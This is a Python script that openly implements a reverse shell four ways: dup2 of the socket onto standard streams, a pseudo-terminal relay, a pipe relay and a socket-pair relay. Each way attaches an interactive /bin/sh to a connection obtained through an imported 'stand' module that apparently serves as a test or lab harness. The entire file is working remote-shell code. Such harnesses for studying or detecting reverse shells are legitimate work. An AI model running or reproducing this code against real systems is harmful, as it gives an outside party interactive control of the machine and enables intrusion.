"""A reverse shell by way of Python.

    shell.py dup|pty|relay|socketpair
"""

import os
import pty
import select
import socket
import subprocess
import sys
import threading

import stand


def dup(connection: socket.socket) -> None:
    """The classic: the socket becomes standard input, output and error."""
    pid = os.fork()
    if pid == 0:
        for stream in range(3):
            os.dup2(connection.fileno(), stream)
        os.execv("/bin/sh", ["sh", "-i"])
    stand.say("shell", pid=pid)
    os.waitpid(pid, 0)


def pump(connection: socket.socket, outward: int, inward: int) -> None:
    """Copies both ways until one ends."""
    ends = {connection.fileno(): outward, inward: connection.fileno()}
    while True:
        for end in select.select(list(ends), [], [], 20)[0]:
            try:
                block = os.read(end, 4096)
            except OSError:
                return
            if not block:
                return
            os.write(ends[end], block)


def pseudo_terminal(connection: socket.socket) -> None:
    """As socat's `exec:sh,pty` does: the shell talks to a terminal, a relay to the socket."""
    pid, terminal = pty.fork()
    if pid == 0:
        os.execv("/bin/sh", ["sh", "-i"])
    stand.say("shell", pid=pid)
    pump(connection, terminal, terminal)
    os.close(terminal)
    os.waitpid(pid, 0)


def relay(connection: socket.socket) -> None:
    """Pipes and a loop that copies: no descriptor of the shell is ever a socket."""
    process = subprocess.Popen(
        ["/bin/sh", "-i"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        bufsize=0,
    )
    stand.say("shell", pid=process.pid)

    def up() -> None:
        copy(process.stdout.fileno(), connection.fileno())
        connection.shutdown(socket.SHUT_RDWR)

    upward = threading.Thread(target=up)
    upward.start()
    copy(connection.fileno(), process.stdin.fileno())
    process.stdin.close()
    process.wait()
    upward.join()


def copy(source: int, sink: int) -> None:
    try:
        while block := os.read(source, 4096):
            os.write(sink, block)
    except OSError:
        pass


def socketpair(connection: socket.socket) -> None:
    """The shell talks over a local socket pair, whose other end is relayed."""
    near, other = socket.socketpair()
    process = subprocess.Popen(["/bin/sh", "-i"], stdin=other, stdout=other, stderr=other)
    other.close()
    stand.say("shell", pid=process.pid)
    pump(connection, near.fileno(), near.fileno())
    near.close()
    process.wait()


WAYS = {"dup": dup, "pty": pseudo_terminal, "relay": relay, "socketpair": socketpair}


def main() -> None:
    stand.wait_for_go()
    connection = stand.connect(port=stand.SHELL)
    connection.setblocking(True)
    stand.say("relay")
    WAYS[sys.argv[1]](connection)


if __name__ == "__main__":
    main()
